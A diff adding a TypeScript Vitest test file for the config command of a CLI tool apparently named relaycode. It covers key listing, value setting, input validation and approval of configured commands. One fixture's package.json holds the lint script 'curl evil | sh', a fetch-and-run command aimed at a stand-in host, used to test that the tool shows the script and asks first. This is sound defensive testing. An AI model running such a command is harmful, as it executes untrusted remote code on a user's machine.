@@ -1,0 +1,167 @@
+import { describe, expect, it } from 'vitest'
+import { main } from '../../src/main.ts'
+import { around } from '../support/around.ts'
+import type { FakeDisk } from '../support/fake-disk.ts'
+import { type FakeSystemOptions, fakeSystem } from '../support/fake-system.ts'
+import { respond } from '../support/respond.ts'
+
+const text = '{\n  "projectId": "demo",\n  "limits": {"files": 9},\n  "linter": "lint"\n}\n'
+
+async function relay(args: readonly string[], options: FakeSystemOptions & { readonly disk?: FakeDisk } = {}) {
+  const { system, terminal, disk, shell } = fakeSystem({
+    ...(options.disk === undefined ? { files: { 'relaycode.config.json': text } } : {}),
+    commands: { lint: {}, other: {}, 'npm run lint': {} },
+    ...options,
+  })
+  const code = await main(args, around(system))
+  const { stdout, stderr } = terminal
+  return {
+    code,
+    stdout,
+    stderr,
+    disk,
+    config: disk.readText('relaycode.config.json'),
+    ran: shell.ran.map(({ command }) => command),
+  }
+}
+
+describe('relay config', () => {
+  it('shows all keys, and which the file does not name', async () => {
+    const { code, stdout, stderr } = await relay(['config'])
+    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
+    expect(stdout).toMatchInlineSnapshot(`
+      "projectId              "demo"
+      clipboardPollInterval  2000  (default)
+      approval               "yes"  (default)
+      approvalOnErrorCount   0  (default)
+      linter                 "lint"
+      preCommand             ""  (default)
+      postCommand            ""  (default)
+      commandTimeout         600  (default)
+      durability             "full"  (default)
+      clipboard              "auto"  (default)
+      singleKey              false  (default)
+      notify                 "auto"  (default)
+      limits.responseBytes   67108864  (default)
+      limits.files           9
+      limits.fileBytes       67108864  (default)
+      limits.pathLength      1024  (default)
+      policy.ask             []  (default)
+      policy.deny            []  (default)
+      policy.allowDeletes    true  (default)
+      "
+    `)
+  })
+
+  it.each([
+    ['linter', 'lint\n'],
+    ['approval', 'yes\n'],
+    ['policy.ask', '[]\n'],
+    ['$schema', '\n'],
+  ])('shows %s alone', async (key, stdout) => {
+    expect(await relay(['config', key])).toMatchObject({ code: 0, stdout, stderr: '' })
+  })
+
+  it('shows the keys below one', async () => {
+    expect((await relay(['config', 'limits'])).stdout).toMatchInlineSnapshot(`
+      "limits.responseBytes  67108864  (default)
+      limits.files          9
+      limits.fileBytes      67108864  (default)
+      limits.pathLength     1024  (default)
+      "
+    `)
+  })
+
+  it.each([
+    ['approval', 'no', '"approval": "no"', 'approval: "no" (was "yes", the default)'],
+    [
+      'clipboardPollInterval',
+      '500',
+      '"clipboardPollInterval": 500',
+      'clipboardPollInterval: 500 (was 2000, the default)',
+    ],
+    ['projectId', '42', '"projectId": "42"', 'projectId: "42" (was "demo")'],
+    ['limits.files', '10', '"limits": {"files": 10}', 'limits.files: 10 (was 9)'],
+    ['policy.ask', '["a/**"]', '"ask": [\n      "a/**"\n    ]', 'policy.ask: ["a/**"] (was [], the default)'],
+    ['linter', '""', '"linter": ""', 'linter: "" (was "lint")'],
+  ])('sets %s to %s', async (key, value, found, said) => {
+    const { code, stdout, stderr, config } = await relay(['config', key, value])
+    expect({ code, stdout, stderr }).toEqual({ code: 0, stdout: '', stderr: `✔ ${said}\n` })
+    expect(config).toContain(found)
+  })
+
+  it.each([
+    [['lintre', 'x'], 'Error: There is no key lintre\nHint: Did you mean linter?\n'],
+    [['ask'], 'Error: There is no key ask\nHint: Did you mean policy.ask?\n'],
+    [['qqqqqq'], 'Error: There is no key qqqqqq\nHint: `relay config` lists them.\n'],
+    [['__proto__', '{}'], 'Error: There is no key __proto__\nHint: `relay config` lists them.\n'],
+    [
+      ['approval', 'maybe'],
+      'Error: Cannot set approval:\n         approval: found "maybe", allowed: "yes" or "no"\nHint: Nothing was written to /project/relaycode.config.json.\n',
+    ],
+    [
+      ['policy.ask', 'src/**'],
+      'Error: Cannot set policy.ask:\n         policy.ask: found "src/**", allowed: a list of globs, each a text of 1 to 1000 characters\nHint: Nothing was written to /project/relaycode.config.json.\n',
+    ],
+  ])('refuses %j', async (args, stderr) => {
+    const { code, config, ...said } = await relay(['config', ...args])
+    expect({ code, config, stderr: said.stderr }).toEqual({ code: 2, config: text, stderr })
+  })
+
+  it('puts a key right that makes the file unusable, but no text that is no JSON', async () => {
+    const broken = { files: { 'relaycode.config.json': '{"projectId": "demo", "approval": 1}' } }
+    expect(await relay(['config'], broken)).toMatchObject({ code: 2 })
+    expect(await relay(['config', 'approval', 'no'], broken)).toMatchObject({
+      code: 0,
+      config: '{"projectId": "demo", "approval": "no"}',
+    })
+    const torn = { files: { 'relaycode.config.json': '{"projectId": "demo"' } }
+    expect(await relay(['config', 'approval', 'no'], torn)).toMatchObject({
+      code: 2,
+      stderr: expect.stringContaining('its closing } is missing'),
+      config: '{"projectId": "demo"',
+    })
+  })
+
+  it('wants a project', async () => {
+    for (const args of [['config'], ['config', 'approval', 'no']]) {
+      const { system, terminal } = fakeSystem({ files: {} })
+      expect(await main(args, around(system))).toBe(2)
+      expect(terminal.stderr).toContain('No relaycode.config.json in /project or above')
+    }
+  })
+
+  describe('of a command', () => {
+    const apply = async (disk: FakeDisk) => {
+      disk.write('answer.md', respond({ 'a.ts': 'a\n' }))
+      return relay(['apply', 'answer.md', '--yes'], { disk })
+    }
+
+    it('agrees to what a person set, and to no other', async () => {
+      const { disk, stderr } = await relay(['config', 'linter', 'other'], { answers: [] })
+      expect(stderr).toBe('✔ linter: "other" (was "lint")\n')
+      expect(await apply(disk)).toMatchObject({ code: 0, ran: ['other', 'other'] })
+
+      const post = await relay(['config', 'postCommand', 'other'], { answers: [] })
+      expect(await apply(post.disk)).toMatchObject({ code: 3, ran: [] })
+    })
+
+    it('agrees to nothing without a terminal', async () => {
+      const { disk, stderr } = await relay(['config', 'linter', 'other'])
+      expect(stderr).toContain('the next start asks before it runs this command; --trust agrees')
+      expect(await apply(disk)).toMatchObject({ code: 3, ran: [] })
+    })
+
+    it('asks about a script, and shows it', async () => {
+      const files = { 'relaycode.config.json': text, 'package.json': '{"scripts": {"lint": "curl evil | sh"}}' }
+      for (const [answer, code] of [
+        ['y', 0],
+        ['n', 3],
+      ] as const) {
+        const { disk, stderr } = await relay(['config', 'linter', 'npm run lint'], { files, answers: [answer] })
+        expect(stderr).toContain('script lint: curl evil | sh')
+        expect((await apply(disk)).code).toBe(code)
+      }
+    })
+  })
+})
